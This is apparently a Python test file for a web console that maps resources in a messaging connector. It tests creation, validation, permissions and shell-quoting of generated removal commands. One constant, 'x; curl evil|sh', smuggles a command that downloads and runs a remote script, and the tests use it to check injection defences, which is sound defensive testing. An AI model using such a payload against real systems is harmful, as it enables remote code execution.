"""Common resources on pages, at the real sandbox."""

from __future__ import annotations

import json
import re
import shlex
from html import unescape
from typing import Any
from urllib.parse import quote

import pytest

from service.core.open_connectors.hub_request import read_request
from service.operate.audit import trail
from service.operate.common_resources import list_resources
from service.operate.hub_requests import send
from service.operate.mapping_drafts import draft, save
from service.web.console.mapping_pages import commands_to_remove
from tests.connector.pieces import OURS, THEIRS
from tests.web.console.asked import form_on, submit

pytestmark = pytest.mark.anyio

MAPPING = "/console/mapping"
EDIT, REMOVE = f"{MAPPING}/edit", f"{MAPPING}/remove"

DEFINITION = {"fields": [{"path": "id", "type": "string"}, {"path": "text", "type": "string"}]}
TEXT = json.dumps({"To": THEIRS, "From": OURS, "Body": "<b>hi</b>"})

EVIL = "x; curl evil|sh"

PAIRS = {"ours.0": "id", "theirs.0": "sid", "ours.1": "text", "theirs.1": "body"}


@pytest.fixture
async def sid(deployment: Any) -> str:
    """A text that is in the log."""
    return str((await send(deployment, read_request("POST", "/messages", (), TEXT))).body["sid"])


def problems_of(page: str) -> dict[str, str]:
    """Return what a page says is wrong, by its fields."""
    found = re.findall(r'class="problem" id="([\w.-]+)-problem" role="alert">(.*?)</p>', page)
    return {name: unescape(text) for name, text in found}


async def test_a_new_resource_is_made_previewed_saved_shown_and_removed(
    connected: Any, connected_desk: Any, deployment: Any, sid: str
) -> None:
    """The documentation's next step could not be taken in a browser."""
    empty = (await connected.get(MAPPING)).text
    assert "Nothing is mapped yet" in empty
    page = (await connected.get(EDIT)).text
    assert f"<dd>{sid}</dd>" in page  # The sample row, beside the fields.
    assert "&lt;b&gt;hi&lt;/b&gt;" in page

    typed = PAIRS | {"name": "texts", "do": "preview"}
    preview = (await submit(connected, page, EDIT, typed)).text
    assert "Makes the organization’s common resource <code>texts</code>" in preview
    assert f">{sid}</td>" in preview
    assert "&lt;b&gt;hi&lt;/b&gt;" in preview
    assert "parley connector map set texts --new --field id=sid --field text=body" in preview
    assert (await list_resources(deployment)).resources == ()

    saved = await submit(connected, preview, EDIT, {"do": "save"})
    assert (saved.status_code, saved.headers["location"]) == (303, f"{MAPPING}?saved=texts")
    listed = (await connected.get(saved.headers["location"])).text
    assert "texts is mapped." in listed
    rows = (await send(deployment, read_request("GET", "/texts"))).body
    assert rows == [{"id": sid, "text": "<b>hi</b>"}]
    shown = (await connected.get(f"{MAPPING}?name=texts")).text
    assert sid in shown

    question = (await connected.get(f"{REMOVE}?name=texts")).text
    assert "Remove the mapping of texts?" in question
    assert "which others may use" in question
    gone = await submit(connected, question, REMOVE, {"definition": "yes"})
    assert gone.headers["location"] == f"{MAPPING}?removed=texts"
    assert (
        "not mapped on the instance any more"
        in (await connected.get(f"{MAPPING}?removed=texts")).text
    )
    there = await list_resources(deployment)
    assert (there.resources, there.own) == ((), ())
    removed, made, *_ = await trail(connected_desk.redis)
    assert (removed.what, removed.about) == ("connector map remove", "texts, and its definition")
    assert (made.what, made.about, made.via) == ("connector map set", "texts", "console")


async def test_matching_names_are_proposed_beside_the_row(
    connected: Any, platform: Any, sid: str
) -> None:
    """Each field would have to be looked for."""
    await platform("POST", "/organizations/objects/texts/definitions", DEFINITION)
    page = (await connected.get(f"{EDIT}?name=texts")).text
    form = form_on(page, EDIT)
    assert [form[name] for name in ("ours.0", "theirs.0", "ours.1", "theirs.1")] == [
        *("id", "sid", "text", "body")
    ]
    assert page.count('<span class="tag">proposed</span>') == 2
    preview = (await submit(connected, page, EDIT, {"theirs.1": "", "do": "preview"})).text
    assert "stays empty" in preview
    assert "parley connector map set texts --field id=sid --field text= --exact" in preview
    back = (await submit(connected, preview, EDIT, {"do": "edit"})).text
    assert form_on(back, EDIT)["theirs.1"] == ""
    again = (await submit(connected, back, EDIT, {"do": "propose"})).text
    assert form_on(again, EDIT)["theirs.1"] == "body"


async def test_a_new_resource_s_names_are_proposed_for_and_it_may_have_more_fields(
    connected: Any, sid: str
) -> None:
    """The sixth field could not be typed."""
    page = (await connected.get(EDIT)).text
    proposed = (await submit(connected, page, EDIT, {"ours.0": "dateSent", "do": "propose"})).text
    assert form_on(proposed, EDIT)["theirs.0"] == "date_sent"
    longer = form_on((await submit(connected, proposed, EDIT, {"do": "more"})).text, EDIT)
    assert longer["ours.0"] == "dateSent"
    assert "ours.9" in longer


@pytest.mark.parametrize(
    ("typed", "where", "says"),
    [
        ({"name": ""}, "name", "A name of letters, digits"),
        ({"name": "te xts"}, "name", "A name of letters, digits"),
        ({"name": "taken"}, "name", "There is such a resource already; choose it in the list."),
        ({"vendor": "../x"}, "vendor", "A name of letters, digits"),
        ({"ours.1": ""}, "ours.1", "Say the name that body gets."),
        ({"ours.1": "id"}, "ours.1", "Id is mapped twice."),
        ({"theirs.0": "", "theirs.1": ""}, "theirs.0", "Say what fills at least one field."),
    ],
    ids=lambda value: "-".join(value.values()) if isinstance(value, dict) else "",
)
async def test_bad_input_is_said_at_its_field_and_kept(
    connected: Any, platform: Any, typed: dict[str, str], where: str, says: str
) -> None:
    """What somebody typed would be gone, or they would not know what was wrong with it."""
    await platform("POST", "/organizations/objects/taken/definitions", DEFINITION)
    page = (await connected.get(EDIT)).text
    wanted = PAIRS | {"name": "texts", "do": "preview"} | typed
    answer = await submit(connected, page, EDIT, wanted)
    assert answer.status_code == 400
    found = problems_of(answer.text)
    assert list(found) == [where]
    assert says in found[where]
    kept = form_on(answer.text, EDIT)
    assert {name: kept[name] for name in wanted if name != "do"} == {
        name: value for name, value in wanted.items() if name != "do"
    }


async def test_the_message_log_itself_is_mapped_with_a_warning(connected: Any, sid: str) -> None:
    """Parley would be made blind by a click."""
    page = (await connected.get(EDIT)).text
    typed = PAIRS | {"name": "messages", "do": "preview"}
    preview = unescape((await submit(connected, page, EDIT, typed)).text)
    assert "is the message log itself, which Parley reads" in preview
    assert "IN_DOUBT decides" in preview


async def test_a_field_that_the_vendor_has_not_is_said_with_what_may_be_meant(
    connected: Any, sid: str
) -> None:
    """A slip would be saved, and the field stay empty."""
    page = (await connected.get(EDIT)).text
    typed = PAIRS | {"name": "texts", "theirs.1": "bodi", "do": "preview"}
    preview = (await submit(connected, page, EDIT, typed)).text
    assert (
        "has no field <code>bodi</code>, as far as is known; is <code>body</code> meant?" in preview
    )


async def test_what_the_connector_refuses_is_said_and_nothing_typed_is_lost(
    connected: Any, deployment: Any, sid: str
) -> None:
    """Ten fields would have to be typed again."""
    page = (await connected.get(EDIT)).text
    typed = PAIRS | {"name": "texts", "do": "preview"}
    preview = (await submit(connected, page, EDIT, typed)).text
    # Somebody else makes one meanwhile.
    await save(deployment, await draft(deployment, "texts", {"x": "sid"}, new=True))
    answer = await submit(connected, preview, EDIT, {"do": "save"})
    assert answer.status_code == 400
    assert "There is such a resource already" in problems_of(answer.text)["name"]
    assert form_on(answer.text, EDIT)["theirs.1"] == "body"


async def test_a_viewer_sees_what_is_mapped_and_nobody_s_text(
    connected: Any, connected_desk: Any, deployment: Any, sid: str
) -> None:
    """Who may only look would change what others read, or read what is masked for them."""
    await save(deployment, await draft(deployment, "texts", {"text": "body"}, new=True))
    async with connected_desk.browser() as viewer:
        await connected_desk.sign_in(viewer, "viewer")
        pages = [
            (await viewer.get(path)).text
            for path in (
                *(MAPPING, f"{MAPPING}?name=texts", f"{EDIT}?name=texts", EDIT),
                f"{REMOVE}?name=texts",
            )
        ]
        for page in pages:
            assert "hi&lt;" not in page
            assert THEIRS not in page
            assert 'value="save"' not in page
            assert 'value="preview"' not in page
        assert "<code>body</code>" in pages[0]
        csrf = re.findall(r'name="csrf" value="([^"]*)"', pages[0])[0]
        for path in (EDIT, REMOVE):
            form = PAIRS | {"csrf": csrf, "name": "texts", "do": "save"}
            assert (await viewer.post(path, data=form)).status_code == 403
    assert [each.pairs for each in (await list_resources(deployment)).own] == [{"text": "body"}]


async def test_what_is_not_there_is_said(connected: Any) -> None:
    """A link of last month would end at a failure."""
    for path in (f"{MAPPING}?name=none", f"{EDIT}?name=none", f"{REMOVE}?name=none"):
        answer = await connected.get(path)
        assert answer.status_code == 404
        assert "none: " in answer.text.lower()
    odd = await connected.get(MAPPING, params={"name": "../x"})
    assert odd.status_code == 404


async def test_a_notice_is_shown_only_where_it_is_true(
    connected: Any, deployment: Any, sid: str
) -> None:
    """A link could make the page say what nobody did."""
    await save(deployment, await draft(deployment, "texts", {"text": "body"}, new=True))
    assert "texts is mapped." in (await connected.get(f"{MAPPING}?saved=texts")).text
    for said in ("saved=paid", "removed=texts", "removed=paid", "removed=All of it"):
        text = (await connected.get(f"{MAPPING}?{said}")).text
        assert "is mapped." not in text, said
        assert "is not mapped on the instance any more" not in text, said
    question = (await connected.get(f"{REMOVE}?name=texts")).text
    await submit(connected, question, REMOVE, {})
    text = (await connected.get(f"{MAPPING}?removed=texts")).text
    assert "texts is not mapped on the instance any more." in text
    # Nor once it is mapped again.
    await save(deployment, await draft(deployment, "texts", {"text": "body"}))
    text = (await connected.get(f"{MAPPING}?removed=texts")).text
    assert "is not mapped on the instance any more" not in text


async def test_what_can_not_be_worked_on_by_its_name_is_listed_and_not_offered(
    connected: Any, platform: Any
) -> None:
    """A name that somebody chose would be a line to paste into a shell, or a button that fails."""
    path = f"/organizations/objects/{quote(EVIL, safe='')}/definitions"
    await platform("POST", path, DEFINITION)
    await platform("POST", "/organizations/objects/texts/definitions", DEFINITION)
    page = (await connected.get(MAPPING)).text
    assert f"<strong>{EVIL}</strong>" in page
    assert "Its name can only be worked on in Open Connectors." in page
    assert f"{REMOVE}?name=texts" in page
    assert "curl" not in "".join(re.findall('href="([^"]*)"', page))
    answer = await connected.get(REMOVE, params={"name": EVIL})
    assert answer.status_code == 404
    assert "a resource has a name of letters, digits" in answer.text
    assert "By command" not in answer.text


@pytest.mark.parametrize(
    ("own", "defined", "endings"),
    [
        (True, False, [[]]),
        (True, True, [[], ["--definition"]]),
        (False, True, [["--definition"]]),
    ],
    ids=["mapped", "mapped and defined", "defined"],
)
def test_the_commands_that_remove_are_quoted(
    own: bool, defined: bool, endings: list[list[str]]
) -> None:
    """Whoever pastes one would run what somebody else wrote."""
    for name in (EVIL, "texts"):
        commands = commands_to_remove(name, own=own, defined=defined)
        words = ["parley", "connector", "map", "remove", name]
        assert [shlex.split(each) for each in commands] == [[*words, *each] for each in endings]
        shell = shlex.shlex(commands[0], posix=True, punctuation_chars=True)
        assert not {";", "|"} & set(shell)
